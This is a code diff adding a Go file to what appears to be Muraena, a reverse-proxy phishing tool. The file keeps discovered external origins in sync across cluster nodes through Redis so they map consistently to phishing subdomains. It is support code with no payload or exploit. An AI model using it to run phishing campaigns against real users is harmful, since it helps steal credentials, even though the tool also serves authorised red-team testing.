@@ -0,0 +1,86 @@
+package proxy
+
+import (
+	"time"
+
+	"github.com/gomodule/redigo/redis"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// appendOrigins appends the origins not yet known to the shared list and returns it
+var appendOrigins = redis.NewScript(2, `
+for _, origin in ipairs(ARGV) do
+	if redis.call('SADD', KEYS[1], origin) == 1 then
+		redis.call('RPUSH', KEYS[2], origin)
+	end
+end
+return redis.call('LRANGE', KEYS[2], 0, -1)`)
+
+// sharedOrigins is the list of the external origins shared by the cluster nodes.
+// The origins are mapped to the phishing subdomains in order of discovery, so all the nodes
+// must use the same order to generate the same mapping.
+type sharedOrigins struct {
+	set  string
+	list string
+}
+
+func newSharedOrigins(sess *session.Session) *sharedOrigins {
+	return &sharedOrigins{
+		set:  sess.ClusterKey("origins:set"),
+		list: sess.ClusterKey("origins"),
+	}
+}
+
+// sync adds the local origins to the shared list and returns it
+func (o *sharedOrigins) sync(local []string) ([]string, error) {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	args := redis.Args{}.Add(o.set, o.list).AddFlat(local)
+	return redis.Strings(appendOrigins.Do(rc, args...))
+}
+
+// followCluster periodically applies the origins discovered by the other nodes
+func (r *Replacer) followCluster(interval time.Duration) {
+	for range time.Tick(interval) {
+		local := r.GetExternalOrigins()
+		shared, err := r.shared.sync(local)
+		if err != nil {
+			log.Warning("Error synchronizing the origins with the cluster: %s", err)
+			continue
+		}
+
+		if equalOrigins(local, shared) {
+			continue
+		}
+
+		// The origins are published together with their mapping and replacements
+		r.mu.Lock()
+		r.ExternalOrigin = shared
+		r.mapDomains()
+		r.makeReplacements()
+		r.publish()
+		r.mu.Unlock()
+
+		if err := r.Save(); err != nil {
+			log.Error("Error saving replacer: %s", err)
+		}
+
+		log.Info("Synchronized %d origins from the cluster", len(shared)-len(local))
+	}
+}
+
+func equalOrigins(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}